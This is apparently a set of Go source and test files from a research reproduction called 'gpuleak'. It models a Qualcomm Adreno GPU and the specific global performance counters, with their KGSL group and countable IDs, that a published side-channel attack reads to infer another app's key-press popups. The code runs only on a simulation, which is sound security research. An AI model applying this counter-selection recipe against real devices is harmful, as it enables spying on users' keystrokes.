	d, _ := AtlasQuad(glyph.MustLookup('.'), box)
	if w.Rect.Area() <= d.Rect.Area() {
		t.Fatal("atlas quad areas do not reflect ink extents")
	}
}

func TestAtlasTextPlusTwoPrimsPerChar(t *testing.T) {
	// The Figure-14 invariant: each additional character adds exactly one
	// quad (= 2 triangles) to the echo redraw.
	line := geom.XYWH(100, 100, 800, 48)
	for n := 1; n < 16; n++ {
		prims := AtlasTextPrims(string(make([]rune, 0))+"••••••••••••••••"[:0]+stringsRepeatBullet(n), line, 28)
		if len(prims) != n {
			t.Fatalf("n=%d: %d quads", n, len(prims))
		}
	}
}

func stringsRepeatBullet(n int) string {
	out := make([]rune, n)
	for i := range out {
		out[i] = '•'
	}
	return string(out)
}
