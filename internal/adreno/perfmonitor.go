package adreno

import (
	"fmt"

	"gpuleak/internal/sim"
)

// The paper's §3.3 explains why the attack bypasses the official API:
// the GL_AMD_performance_monitor extension "can only be used by the
// attacking application to read the local PC value changes caused by
// this application itself, but cannot provide any global GPU
// information". This file models that sanctioned interface so the
// limitation is demonstrable: a monitor is bound to a GL context (a PID)
// and accumulates only the counter contributions of frames that context
// submitted.

// PerfMonitor is a GL_AMD_performance_monitor session bound to one
// process's GL context.
type PerfMonitor struct {
	gpu     *GPU
	pid     int
	active  bool
	beginAt sim.Time
}

// NewPerfMonitor creates a monitor for the given process (the calling
// application; the driver scopes it automatically).
func (g *GPU) NewPerfMonitor(pid int) *PerfMonitor {
	return &PerfMonitor{gpu: g, pid: pid}
}

// Begin starts counter collection (glBeginPerfMonitorAMD).
func (m *PerfMonitor) Begin(t sim.Time) error {
	if m.active {
		return fmt.Errorf("adreno: perf monitor already active")
	}
	m.active = true
	m.beginAt = t
	return nil
}

// End stops collection and returns the counter deltas attributable to
// the monitor's own context (glEndPerfMonitorAMD +
// glGetPerfMonitorCounterDataAMD).
func (m *PerfMonitor) End(t sim.Time) ([NumSelected]uint64, error) {
	var out [NumSelected]uint64
	if !m.active {
		return out, fmt.Errorf("adreno: perf monitor not active")
	}
	m.active = false
	if t < m.beginAt {
		return out, fmt.Errorf("adreno: monitor ended before it began")
	}
	for _, f := range m.gpu.frames {
		if f.PID != m.pid {
			continue
		}
		if f.End <= m.beginAt || f.Start >= t {
			continue
		}
		v := m.gpu.scaledVec(f.Stats)
		// Partial overlap contributes proportionally, like the global
		// register ramp.
		span := f.End - f.Start
		s, e := f.Start, f.End
		if s < m.beginAt {
			s = m.beginAt
		}
		if e > t {
			e = t
		}
		frac := uint64(e - s)
		for i := range out {
			out[i] += v[i] * frac / uint64(span)
		}
	}
	return out, nil
}
