// Package adreno models a Qualcomm Adreno mobile GPU at the level the
// paper's side channel observes it: a register file of global performance
// counters fed by the tile renderer, advanced over simulated time as
// frames draw. It also provides the GL_AMD_performance_monitor-style
// counter enumeration the paper uses to discover counter names (§3.3).
package adreno

import (
	"fmt"
	"sort"
)

// Group IDs as specified in msm_kgsl.h (§4, Figure 9 of the paper).
const (
	GroupCP   uint32 = 0x0
	GroupRBBM uint32 = 0x1
	GroupPC   uint32 = 0x2
	GroupVFD  uint32 = 0x3
	GroupHLSQ uint32 = 0x4
	GroupVPC  uint32 = 0x5 // KGSL_PERFCOUNTER_GROUP_VPC
	GroupTSE  uint32 = 0x6
	GroupRAS  uint32 = 0x7 // KGSL_PERFCOUNTER_GROUP_RAS
	GroupUCHE uint32 = 0x8
	GroupTP   uint32 = 0x9
	GroupSP   uint32 = 0xA
	GroupRB   uint32 = 0xB
	GroupLRZ  uint32 = 0x19 // KGSL_PERFCOUNTER_GROUP_LRZ
)

// CounterKey identifies a performance counter: a group plus a countable
// (the per-group counter ID used by IOCTL_KGSL_PERFCOUNTER_GET/READ).
type CounterKey struct {
	Group     uint32
	Countable uint32
}

func (k CounterKey) String() string {
	return fmt.Sprintf("%s/%d", GroupName(k.Group), k.Countable)
}

// Table-1 countable IDs within their groups.
const (
	LRZVisiblePrimAfterLRZ  uint32 = 13
	LRZFullTiles8x8         uint32 = 14
	LRZPartialTiles8x8      uint32 = 15
	LRZVisiblePixelAfterLRZ uint32 = 18

	RASSupertileActiveCycles uint32 = 1
	RASSuperTiles            uint32 = 4
	RASTiles8x4              uint32 = 5
	RASFullyCovered8x4       uint32 = 8

	VPCPCPrimitives        uint32 = 9
	VPCSPComponents        uint32 = 10
	VPCLRZAssignPrimitives uint32 = 12
)

// Selected is the exact set of 11 counters from Table 1 of the paper, in
// table order. This is the feature vector the attack observes.
var Selected = []CounterKey{
	{GroupLRZ, LRZVisiblePrimAfterLRZ},
	{GroupLRZ, LRZFullTiles8x8},
	{GroupLRZ, LRZPartialTiles8x8},
	{GroupLRZ, LRZVisiblePixelAfterLRZ},
	{GroupRAS, RASSupertileActiveCycles},
	{GroupRAS, RASSuperTiles},
	{GroupRAS, RASTiles8x4},
	{GroupRAS, RASFullyCovered8x4},
	{GroupVPC, VPCPCPrimitives},
	{GroupVPC, VPCSPComponents},
	{GroupVPC, VPCLRZAssignPrimitives},
}

// NumSelected is the dimensionality of the attack's feature space.
const NumSelected = 11

// groupNames maps group IDs to their human-readable block names.
var groupNames = map[uint32]string{
	GroupCP: "CP", GroupRBBM: "RBBM", GroupPC: "PC", GroupVFD: "VFD",
	GroupHLSQ: "HLSQ", GroupVPC: "VPC", GroupTSE: "TSE", GroupRAS: "RAS",
	GroupUCHE: "UCHE", GroupTP: "TP", GroupSP: "SP", GroupRB: "RB",
	GroupLRZ: "LRZ",
}

// GroupName returns the block name for a counter group ID.
func GroupName(g uint32) string {
	if n, ok := groupNames[g]; ok {
		return n
	}
	return fmt.Sprintf("GROUP_0x%X", g)
}

// counterStrings holds the GetPerfMonitorCounterStringAMD identifiers for
// every counter the simulated driver exposes. The Table-1 counters carry
// their exact paper names; the remainder are representative of the full
// Adreno 6xx counter set and exist so enumeration behaves like hardware.
var counterStrings = map[CounterKey]string{
	{GroupLRZ, LRZVisiblePrimAfterLRZ}:  "PERF_LRZ_VISIBLE_PRIM_AFTER_LRZ",
	{GroupLRZ, LRZFullTiles8x8}:         "PERF_LRZ_FULL_8X8_TILES",
	{GroupLRZ, LRZPartialTiles8x8}:      "PERF_LRZ_PARTIAL_8X8_TILES",
	{GroupLRZ, LRZVisiblePixelAfterLRZ}: "PERF_LRZ_VISIBLE_PIXEL_AFTER_LRZ",
	{GroupLRZ, 0}:                       "PERF_LRZ_BUSY_CYCLES",
	{GroupLRZ, 1}:                       "PERF_LRZ_STARVE_CYCLES_RAS",
	{GroupLRZ, 2}:                       "PERF_LRZ_STALL_CYCLES_RB",
	{GroupLRZ, 16}:                      "PERF_LRZ_TILE_KILLED",
	{GroupLRZ, 17}:                      "PERF_LRZ_TOTAL_PIXEL",

	{GroupRAS, RASSupertileActiveCycles}: "PERF_RAS_SUPERTILE_ACTIVE_CYCLES",
	{GroupRAS, RASSuperTiles}:            "PERF_RAS_SUPER_TILES",
	{GroupRAS, RASTiles8x4}:              "PERF_RAS_8X4_TILES",
	{GroupRAS, RASFullyCovered8x4}:       "PERF_RAS_FULLY_COVERED_8X4_TILES",
	{GroupRAS, 0}:                        "PERF_RAS_BUSY_CYCLES",
	{GroupRAS, 2}:                        "PERF_RAS_STALL_CYCLES_LRZ",
	{GroupRAS, 6}:                        "PERF_RAS_MASKGEN_ACTIVE",
	{GroupRAS, 9}:                        "PERF_RAS_FULLY_COVERED_SUPER_TILES",

	{GroupVPC, VPCPCPrimitives}:        "PERF_VPC_PC_PRIMITIVES",
	{GroupVPC, VPCSPComponents}:        "PERF_VPC_SP_COMPONENTS",
	{GroupVPC, VPCLRZAssignPrimitives}: "PERF_VPC_LRZ_ASSIGN_PRIMITIVES",
	{GroupVPC, 0}:                      "PERF_VPC_BUSY_CYCLES",
	{GroupVPC, 1}:                      "PERF_VPC_WORKING_CYCLES",
	{GroupVPC, 2}:                      "PERF_VPC_STALL_CYCLES_UCHE",
	{GroupVPC, 11}:                     "PERF_VPC_SP_LM_PRIMITIVES",

	{GroupSP, 0}:   "PERF_SP_BUSY_CYCLES",
	{GroupSP, 1}:   "PERF_SP_ALU_WORKING_CYCLES",
	{GroupTP, 0}:   "PERF_TP_BUSY_CYCLES",
	{GroupTP, 1}:   "PERF_TP_L1_CACHELINE_REQUESTS",
	{GroupUCHE, 0}: "PERF_UCHE_BUSY_CYCLES",
	{GroupUCHE, 1}: "PERF_UCHE_READ_REQUESTS_TP",
	{GroupRB, 0}:   "PERF_RB_BUSY_CYCLES",
	{GroupRB, 1}:   "PERF_RB_STALL_CYCLES_HLSQ",
	{GroupPC, 0}:   "PERF_PC_BUSY_CYCLES",
	{GroupPC, 1}:   "PERF_PC_WORKING_CYCLES",
	{GroupTSE, 0}:  "PERF_TSE_BUSY_CYCLES",
	{GroupVFD, 0}:  "PERF_VFD_BUSY_CYCLES",
	{GroupHLSQ, 0}: "PERF_HLSQ_BUSY_CYCLES",
	{GroupCP, 0}:   "PERF_CP_ALWAYS_COUNT",
	{GroupRBBM, 0}: "PERF_RBBM_ALWAYS_COUNT",
}

// CounterString returns the string identifier for a counter, mirroring
// GetPerfMonitorCounterStringAMD. ok is false for unknown counters.
func CounterString(k CounterKey) (string, bool) {
	s, ok := counterStrings[k]
	return s, ok
}

// Groups enumerates the available counter group IDs in ascending order.
func Groups() []uint32 {
	set := map[uint32]bool{}
	for k := range counterStrings {
		set[k.Group] = true
	}
	out := make([]uint32, 0, len(set))
	for g := range set {
		out = append(out, g)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// CountersInGroup enumerates the countable IDs available in a group.
func CountersInGroup(g uint32) []uint32 {
	var out []uint32
	for k := range counterStrings {
		if k.Group == g {
			out = append(out, k.Countable)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// SelectOverdrawCounters reproduces the paper's §3.3 discovery step:
// enumerate all counters and keep the ones in the LRZ, RAS and VPC groups
// whose string identifiers indicate overdraw-related events (Table 1).
func SelectOverdrawCounters() []CounterKey {
	want := map[string]bool{
		"PERF_LRZ_VISIBLE_PRIM_AFTER_LRZ":  true,
		"PERF_LRZ_FULL_8X8_TILES":          true,
		"PERF_LRZ_PARTIAL_8X8_TILES":       true,
		"PERF_LRZ_VISIBLE_PIXEL_AFTER_LRZ": true,
		"PERF_RAS_SUPERTILE_ACTIVE_CYCLES": true,
		"PERF_RAS_SUPER_TILES":             true,
		"PERF_RAS_8X4_TILES":               true,
		"PERF_RAS_FULLY_COVERED_8X4_TILES": true,
		"PERF_VPC_PC_PRIMITIVES":           true,
		"PERF_VPC_SP_COMPONENTS":           true,
		"PERF_VPC_LRZ_ASSIGN_PRIMITIVES":   true,
	}
	var out []CounterKey
	for _, g := range Groups() {
		for _, c := range CountersInGroup(g) {
			k := CounterKey{g, c}
			if s, _ := CounterString(k); want[s] {
				out = append(out, k)
			}
		}
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Group != out[j].Group {
			return out[i].Group < out[j].Group
		}
		return out[i].Countable < out[j].Countable
	})
	return out
}
