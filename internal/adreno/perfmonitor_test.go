package adreno

import (
	"testing"

	"gpuleak/internal/render"
)

func TestPerfMonitorScopedToOwnContext(t *testing.T) {
	g := NewGPU(A650)
	// The victim UI (PID 1000) draws a key press popup; the attacker
	// (PID 4242) draws nothing.
	g.Submit(Frame{Start: 1000, End: 2000, PID: 1000, Stats: render.FrameStats{
		VisiblePrimAfterLRZ: 1637, VisiblePixelAfterLRZ: 90000, TotalPixels: 90000,
	}})

	attacker := g.NewPerfMonitor(4242)
	if err := attacker.Begin(0); err != nil {
		t.Fatal(err)
	}
	vals, err := attacker.End(5000)
	if err != nil {
		t.Fatal(err)
	}
	for i, v := range vals {
		if v != 0 {
			t.Fatalf("attacker's local monitor saw foreign work (dim %d = %d): "+
				"the GL extension must not leak global counters", i, v)
		}
	}

	victim := g.NewPerfMonitor(1000)
	if err := victim.Begin(0); err != nil {
		t.Fatal(err)
	}
	own, err := victim.End(5000)
	if err != nil {
		t.Fatal(err)
	}
	if own[0] != 1637 {
		t.Fatalf("victim's own monitor missed its work: %d", own[0])
	}
}

func TestPerfMonitorPartialOverlap(t *testing.T) {
	g := NewGPU(A650)
	g.Submit(Frame{Start: 1000, End: 3000, PID: 7, Stats: render.FrameStats{
		VisiblePixelAfterLRZ: 1000, TotalPixels: 1000,
	}})
	m := g.NewPerfMonitor(7)
	if err := m.Begin(0); err != nil {
		t.Fatal(err)
	}
	vals, err := m.End(2000) // halfway through the frame
	if err != nil {
		t.Fatal(err)
	}
	if vals[3] != 500 {
		t.Fatalf("partial overlap = %d, want 500", vals[3])
	}
}

func TestPerfMonitorLifecycleErrors(t *testing.T) {
	g := NewGPU(A650)
	m := g.NewPerfMonitor(1)
	if _, err := m.End(10); err == nil {
		t.Fatal("End before Begin accepted")
	}
	if err := m.Begin(0); err != nil {
		t.Fatal(err)
	}
	if err := m.Begin(5); err == nil {
		t.Fatal("double Begin accepted")
	}
	if _, err := m.End(10); err != nil {
		t.Fatal(err)
	}
}
