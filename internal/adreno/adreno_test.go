package adreno

import (
	"testing"
	"testing/quick"

	"gpuleak/internal/render"
	"gpuleak/internal/sim"
)

func TestSelectedCountersMatchTable1(t *testing.T) {
	want := map[string]CounterKey{
		"PERF_LRZ_VISIBLE_PRIM_AFTER_LRZ":  {GroupLRZ, 13},
		"PERF_LRZ_FULL_8X8_TILES":          {GroupLRZ, 14},
		"PERF_LRZ_PARTIAL_8X8_TILES":       {GroupLRZ, 15},
		"PERF_LRZ_VISIBLE_PIXEL_AFTER_LRZ": {GroupLRZ, 18},
		"PERF_RAS_SUPERTILE_ACTIVE_CYCLES": {GroupRAS, 1},
		"PERF_RAS_SUPER_TILES":             {GroupRAS, 4},
		"PERF_RAS_8X4_TILES":               {GroupRAS, 5},
		"PERF_RAS_FULLY_COVERED_8X4_TILES": {GroupRAS, 8},
		"PERF_VPC_PC_PRIMITIVES":           {GroupVPC, 9},
		"PERF_VPC_SP_COMPONENTS":           {GroupVPC, 10},
		"PERF_VPC_LRZ_ASSIGN_PRIMITIVES":   {GroupVPC, 12},
	}
	if len(Selected) != NumSelected || len(Selected) != len(want) {
		t.Fatalf("Selected has %d counters", len(Selected))
	}
	for _, k := range Selected {
		s, ok := CounterString(k)
		if !ok {
			t.Fatalf("no string for %v", k)
		}
		if want[s] != k {
			t.Fatalf("counter %v has string %q, want key %v", k, s, want[s])
		}
	}
}

func TestGroupIDsMatchKGSLHeader(t *testing.T) {
	// Figure 9 of the paper quotes msm_kgsl.h: VPC=0x5, RAS=0x7, LRZ=0x19.
	if GroupVPC != 0x5 || GroupRAS != 0x7 || GroupLRZ != 0x19 {
		t.Fatalf("group IDs diverge from msm_kgsl.h: VPC=%#x RAS=%#x LRZ=%#x",
			GroupVPC, GroupRAS, GroupLRZ)
	}
}

func TestEnumerationDiscoversTable1(t *testing.T) {
	got := SelectOverdrawCounters()
	if len(got) != NumSelected {
		t.Fatalf("discovered %d counters, want %d", len(got), NumSelected)
	}
	set := map[CounterKey]bool{}
	for _, k := range got {
		set[k] = true
	}
	for _, k := range Selected {
		if !set[k] {
			t.Fatalf("enumeration missed %v", k)
		}
	}
}

func TestGroupsEnumeration(t *testing.T) {
	gs := Groups()
	if len(gs) < 10 {
		t.Fatalf("only %d groups enumerated", len(gs))
	}
	found := map[uint32]bool{}
	for _, g := range gs {
		found[g] = true
		if len(CountersInGroup(g)) == 0 {
			t.Fatalf("group %s has no counters", GroupName(g))
		}
	}
	for _, g := range []uint32{GroupLRZ, GroupRAS, GroupVPC} {
		if !found[g] {
			t.Fatalf("group %s missing", GroupName(g))
		}
	}
}

func TestGroupName(t *testing.T) {
	if GroupName(GroupLRZ) != "LRZ" {
		t.Fatal("LRZ name wrong")
	}
	if GroupName(0x42) != "GROUP_0x42" {
		t.Fatalf("unknown group name = %s", GroupName(0x42))
	}
}

func frameStats(prims, px uint64) render.FrameStats {
	return render.FrameStats{
		VisiblePrimAfterLRZ:  prims,
		VisiblePixelAfterLRZ: px,
		PCPrimitives:         prims + 2,
		TotalPixels:          px,
	}
}

func TestCountersMonotone(t *testing.T) {
	g := NewGPU(A650)
	g.Submit(Frame{Start: 1000, End: 3000, Stats: frameStats(100, 5000)})
	g.Submit(Frame{Start: 10000, End: 12000, Stats: frameStats(50, 2000)})
	k := CounterKey{GroupLRZ, LRZVisiblePrimAfterLRZ}
	prev := uint64(0)
	for ts := sim.Time(0); ts < 20000; ts += 100 {
		v := g.CounterValue(k, ts)
		if v < prev {
			t.Fatalf("counter decreased at t=%v: %d < %d", ts, v, prev)
		}
		prev = v
	}
}

func TestFrameDeltaVisibleAfterCompletion(t *testing.T) {
	g := NewGPU(A650)
	k := CounterKey{GroupLRZ, LRZVisiblePrimAfterLRZ}
	before := g.CounterValue(k, 500)
	g.Submit(Frame{Start: 1000, End: 2000, Stats: frameStats(123, 999)})
	after := g.CounterValue(k, 5000)
	if after-before != 123 {
		t.Fatalf("delta = %d, want 123", after-before)
	}
}

func TestMidFrameReadSeesPartialValue(t *testing.T) {
	g := NewGPU(A650)
	k := CounterKey{GroupLRZ, LRZVisiblePixelAfterLRZ}
	base := g.CounterValue(k, 0)
	g.Submit(Frame{Start: 1000, End: 3000, Stats: frameStats(10, 1000)})
	mid := g.CounterValue(k, 2000) - base
	if mid == 0 || mid == 1000 {
		t.Fatalf("mid-frame read = %d, want strictly partial", mid)
	}
	if mid != 500 {
		t.Fatalf("mid-frame linear ramp = %d, want 500", mid)
	}
}

func TestSubmitSerializesOverlap(t *testing.T) {
	g := NewGPU(A650)
	g.Submit(Frame{Start: 1000, End: 5000, Stats: frameStats(1, 1)})
	f := g.Submit(Frame{Start: 2000, End: 4000, Stats: frameStats(1, 1)})
	if f.Start != 5000 || f.End != 7000 {
		t.Fatalf("overlap not serialized: %+v", f)
	}
}

func TestIdleCountersFlat(t *testing.T) {
	// Paper Fig 5: counters unchanged while the screen is static.
	g := NewGPU(A650)
	g.Submit(Frame{Start: 100, End: 200, Stats: frameStats(10, 10)})
	v1 := g.ReadSelected(1000)
	v2 := g.ReadSelected(9_000_000)
	if v1 != v2 {
		t.Fatal("counters drifted while idle")
	}
}

func TestModelScalingDiffers(t *testing.T) {
	st := frameStats(100, 50000)
	st.SPComponents = 10000
	st.SupertileActiveCycles = 8000
	a := NewGPU(A540)
	b := NewGPU(A660)
	a.Submit(Frame{Start: 0, End: 100, Stats: st})
	b.Submit(Frame{Start: 0, End: 100, Stats: st})
	ka := a.ReadSelected(1000)
	kb := b.ReadSelected(1000)
	// SP components index 9 must differ between models (beyond base offset).
	da := ka[9] - NewGPU(A540).ReadSelected(0)[9]
	db := kb[9] - NewGPU(A660).ReadSelected(0)[9]
	if da == db {
		t.Fatalf("model scaling identical: %d vs %d", da, db)
	}
}

func TestBusyFraction(t *testing.T) {
	g := NewGPU(A650)
	g.Submit(Frame{Start: 0, End: 1000, Stats: frameStats(1, 1)})
	g.Submit(Frame{Start: 3000, End: 4000, Stats: frameStats(1, 1)})
	got := g.BusyFraction(0, 4000)
	if got < 0.49 || got > 0.51 {
		t.Fatalf("busy = %v, want 0.5", got)
	}
	if g.BusyFraction(4000, 4000) != 0 {
		t.Fatal("degenerate window not zero")
	}
}

func TestBusyFractionPartialOverlap(t *testing.T) {
	g := NewGPU(A650)
	g.Submit(Frame{Start: 0, End: 2000, Stats: frameStats(1, 1)})
	got := g.BusyFraction(1000, 3000)
	if got < 0.49 || got > 0.51 {
		t.Fatalf("busy = %v, want 0.5", got)
	}
}

func TestUnknownCounterReadsZero(t *testing.T) {
	g := NewGPU(A650)
	if v := g.CounterValue(CounterKey{GroupSP, 0}, 1000); v != 0 {
		t.Fatalf("unselected counter = %d", v)
	}
}

func TestFillRateOrdering(t *testing.T) {
	if !(A540.FillRate() < A640.FillRate() && A640.FillRate() < A660.FillRate()) {
		t.Fatal("fill rates not increasing with generation")
	}
}

// Property: sum of two frames equals reading after both complete.
func TestAccumulationProperty(t *testing.T) {
	f := func(a, b uint16) bool {
		g := NewGPU(A650)
		base := g.ReadSelected(0)
		g.Submit(Frame{Start: 10, End: 20, Stats: frameStats(uint64(a), uint64(a)*3)})
		g.Submit(Frame{Start: 30, End: 40, Stats: frameStats(uint64(b), uint64(b)*3)})
		got := g.ReadSelected(100)
		return got[0]-base[0] == uint64(a)+uint64(b)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 50}); err != nil {
		t.Fatal(err)
	}
}

func TestLastEnd(t *testing.T) {
	g := NewGPU(A650)
	if g.LastEnd() != 0 {
		t.Fatal("empty GPU LastEnd != 0")
	}
	g.Submit(Frame{Start: 5, End: 9, Stats: frameStats(1, 1)})
	if g.LastEnd() != 9 {
		t.Fatalf("LastEnd = %d", g.LastEnd())
	}
}
