package adreno

import (
	"fmt"
	"sort"

	"gpuleak/internal/render"
	"gpuleak/internal/sim"
)

// Model identifies an Adreno GPU generation.
type Model int

// GPU models evaluated in the paper (§7.5).
const (
	A540 Model = 540
	A620 Model = 620
	A640 Model = 640
	A650 Model = 650
	A660 Model = 660
)

func (m Model) String() string { return fmt.Sprintf("Adreno %d", int(m)) }

// FillRate returns the simulated fill rate in pixels per microsecond; it
// determines how long a frame's counter ramp lasts and therefore how often
// a mid-frame read observes a split delta.
func (m Model) FillRate() float64 {
	switch m {
	case A540:
		return 2100
	case A620:
		return 3600
	case A640:
		return 4200
	case A650:
		return 5400
	case A660:
		return 6600
	default:
		return 3600
	}
}

// scale returns per-model counter scaling. Newer GPUs shade more vertex
// components per primitive (wider varyings) and count rasterizer cycles at
// different clock ratios; tile-coverage counters are architectural and do
// not scale. The attack's per-device models absorb these factors, exactly
// as the paper trains one classifier per device model.
func (m Model) scale() statsVec {
	s := onesVec()
	switch m {
	case A540:
		s[idxSPComponents] = 0.85
		s[idxSupertileCycles] = 1.30
	case A620:
		s[idxSPComponents] = 0.95
		s[idxSupertileCycles] = 1.15
	case A640:
		s[idxSPComponents] = 1.00
		s[idxSupertileCycles] = 1.10
	case A650:
		s[idxSPComponents] = 1.10
		s[idxSupertileCycles] = 1.00
	case A660:
		s[idxSPComponents] = 1.20
		s[idxSupertileCycles] = 0.90
	}
	return s
}

// Vector index of each selected counter, in Table-1 order (see Selected).
const (
	idxVisiblePrim = iota
	idxFullTiles8x8
	idxPartialTiles8x8
	idxVisiblePixel
	idxSupertileCycles
	idxSuperTiles
	idxTiles8x4
	idxFullyCovered8x4
	idxPCPrimitives
	idxSPComponents
	idxLRZAssignPrims
	numVec
)

type statsVec [numVec]float64

func onesVec() statsVec {
	var v statsVec
	for i := range v {
		v[i] = 1
	}
	return v
}

// vecOf flattens FrameStats into Table-1 counter order.
func vecOf(st render.FrameStats) [numVec]uint64 {
	return [numVec]uint64{
		st.VisiblePrimAfterLRZ,
		st.FullTiles8x8,
		st.PartialTiles8x8,
		st.VisiblePixelAfterLRZ,
		st.SupertileActiveCycles,
		st.SuperTiles,
		st.Tiles8x4,
		st.FullyCovered8x4,
		st.PCPrimitives,
		st.SPComponents,
		st.LRZAssignPrimitives,
	}
}

// SelectedIndex returns the vector index of a counter key, or -1.
func SelectedIndex(k CounterKey) int {
	for i, s := range Selected {
		if s == k {
			return i
		}
	}
	return -1
}

// Frame is one unit of GPU work: a render pass whose counter contributions
// accumulate linearly between Start and End. PID identifies the GL context
// that submitted the pass (0 = system compositor), which is what scopes
// the sanctioned GL_AMD_performance_monitor interface.
type Frame struct {
	Start, End sim.Time
	PID        int
	Stats      render.FrameStats
}

// Duration returns the draw time of the frame.
func (f Frame) Duration() sim.Time { return f.End - f.Start }

// GPU is the simulated Adreno: a frame timeline plus the derived global
// performance counter register file. Counter reads are O(log n) via a
// cumulative prefix per frame.
type GPU struct {
	model  Model
	frames []Frame
	// cum[i] = total contribution of frames[0..i-1] (completed).
	cum      [][numVec]uint64
	scaleVec statsVec
	base     [numVec]uint64
}

// NewGPU creates a GPU of the given model. Counters start from non-zero
// base values, as on real hardware where the system has been rendering
// since boot.
func NewGPU(model Model) *GPU {
	g := &GPU{model: model, scaleVec: model.scale()}
	g.cum = append(g.cum, [numVec]uint64{})
	for i := range g.base {
		// Deterministic per-model boot offset.
		g.base[i] = uint64(1e6) + uint64(int(model)*1000+i*137)
	}
	return g
}

// Model returns the GPU generation.
func (g *GPU) Model() Model { return g.model }

// scaledVec applies the per-model counter scaling.
func (g *GPU) scaledVec(st render.FrameStats) [numVec]uint64 {
	raw := vecOf(st)
	var out [numVec]uint64
	for i, v := range raw {
		out[i] = uint64(float64(v) * g.scaleVec[i])
	}
	return out
}

// Submit appends a frame to the timeline. Frames must be submitted in
// start order; if a frame would overlap the previous one it is queued to
// begin when the GPU frees up, exactly as a real command processor does.
func (g *GPU) Submit(f Frame) Frame {
	if n := len(g.frames); n > 0 && f.Start < g.frames[n-1].End {
		d := f.Duration()
		f.Start = g.frames[n-1].End
		f.End = f.Start + d
	}
	if f.End <= f.Start {
		f.End = f.Start + 1
	}
	g.frames = append(g.frames, f)
	last := g.cum[len(g.cum)-1]
	v := g.scaledVec(f.Stats)
	var next [numVec]uint64
	for i := range next {
		next[i] = last[i] + v[i]
	}
	g.cum = append(g.cum, next)
	return f
}

// FrameCount reports the number of submitted frames.
func (g *GPU) FrameCount() int { return len(g.frames) }

// Frames exposes the timeline (read-only use).
func (g *GPU) Frames() []Frame { return g.frames }

// readVec returns the full counter vector at simulated time t, including
// the partial contribution of an in-flight frame. This partial visibility
// is the physical source of the paper's "split" artifact (§5.1): a read
// that lands mid-draw observes only part of the frame's delta.
func (g *GPU) readVec(t sim.Time) [numVec]uint64 {
	// Find the last frame with Start <= t.
	idx := sort.Search(len(g.frames), func(i int) bool { return g.frames[i].Start > t }) - 1
	var out [numVec]uint64
	if idx < 0 {
		copy(out[:], g.base[:])
		return out
	}
	cum := g.cum[idx]
	f := g.frames[idx]
	v := g.scaledVec(f.Stats)
	if t >= f.End {
		for i := range out {
			out[i] = g.base[i] + cum[i] + v[i]
		}
		return out
	}
	// Linear ramp within the frame.
	num := uint64(t - f.Start)
	den := uint64(f.End - f.Start)
	for i := range out {
		out[i] = g.base[i] + cum[i] + v[i]*num/den
	}
	return out
}

// CounterValue reads one counter at simulated time t. Unknown counters
// read as a constant, as reserved countables do on hardware.
func (g *GPU) CounterValue(k CounterKey, t sim.Time) uint64 {
	i := SelectedIndex(k)
	if i < 0 {
		return 0
	}
	return g.readVec(t)[i]
}

// ReadSelected reads all Table-1 counters at once (one ioctl with a
// multi-entry read buffer, as in Figure 10 of the paper).
func (g *GPU) ReadSelected(t sim.Time) [NumSelected]uint64 {
	return g.readVec(t)
}

// BusyFraction reports the fraction of [t0, t1] during which the GPU was
// drawing; this backs the /sys/class/kgsl/.../gpu_busy_percentage model.
func (g *GPU) BusyFraction(t0, t1 sim.Time) float64 {
	if t1 <= t0 {
		return 0
	}
	var busy sim.Time
	for _, f := range g.frames {
		if f.End <= t0 {
			continue
		}
		if f.Start >= t1 {
			break
		}
		s, e := f.Start, f.End
		if s < t0 {
			s = t0
		}
		if e > t1 {
			e = t1
		}
		busy += e - s
	}
	return float64(busy) / float64(t1-t0)
}

// LastEnd returns the completion time of the final submitted frame.
func (g *GPU) LastEnd() sim.Time {
	if len(g.frames) == 0 {
		return 0
	}
	return g.frames[len(g.frames)-1].End
}
