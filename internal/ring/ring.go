// Package ring is the fleet tier's placement plane: a consistent-hash
// ring that maps model routing keys onto gpuleakd replicas, plus a
// probe-count membership state machine that feeds the ring from health
// checks. Consistent hashing keeps the model working set partitioned —
// every request for one trained model lands on one replica, so the fleet
// holds each model once instead of once per replica — and membership
// changes move only the keys that must move (the departed or arrived
// replica's arc), so a replica failure re-shards its slice of the keyspace
// without cold-starting everyone else's caches.
//
// The package is deliberately clock-free (the gpuvet simtime gate applies
// to it like any internal package): membership decisions count probe
// outcomes, and the prober's cadence is the caller's business
// (cmd/gpuleakrouter owns the wall clock). Everything here is a pure
// function of the inputs, so two routers fed the same probe history agree
// on placement byte-for-byte.
package ring

import (
	"hash/fnv"
	"sort"
)

// DefaultVirtualNodes is the per-member virtual-node count. 128 keeps the
// keyspace split within a few percent of even for small fleets (pinned by
// the balance test) at a memory cost of one (hash, index) pair each.
const DefaultVirtualNodes = 128

// Ring is a consistent-hash ring over named members. The zero value is
// unusable; build with New. Ring is not safe for concurrent mutation —
// wrap it (or use Membership, which does) when updates race lookups.
type Ring struct {
	vnodes  int
	members []string // sorted
	points  []point  // sorted by hash
}

// point is one virtual node: a hash position owned by a member (indexed
// into members, so rebuilds don't duplicate strings).
type point struct {
	h      uint64
	member int
}

// New builds an empty ring with the given virtual-node count per member
// (<=0 selects DefaultVirtualNodes).
func New(vnodes int) *Ring {
	if vnodes <= 0 {
		vnodes = DefaultVirtualNodes
	}
	return &Ring{vnodes: vnodes}
}

// hashOf positions a string on the ring (64-bit FNV-1a: stable across
// processes and platforms, which is what lets independent routers agree).
func hashOf(s string) uint64 {
	h := fnv.New64a()
	h.Write([]byte(s)) //nolint:errcheck // fnv never fails
	return h.Sum64()
}

// mix is the splitmix64 finalizer. FNV over "member#i" strings leaves
// enough structure to skew small rings by ±50%; running the member hash
// and the virtual-node index through splitmix brings the spread within a
// few percent of even at the default vnode count (pinned by the balance
// test).
func mix(x uint64) uint64 {
	x += 0x9e3779b97f4a7c15
	x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9
	x = (x ^ (x >> 27)) * 0x94d049bb133111eb
	return x ^ (x >> 31)
}

// Add inserts a member (idempotent). Only the arcs claimed by the new
// member's virtual nodes change owners.
func (r *Ring) Add(member string) {
	i := sort.SearchStrings(r.members, member)
	if i < len(r.members) && r.members[i] == member {
		return
	}
	r.members = append(r.members, "")
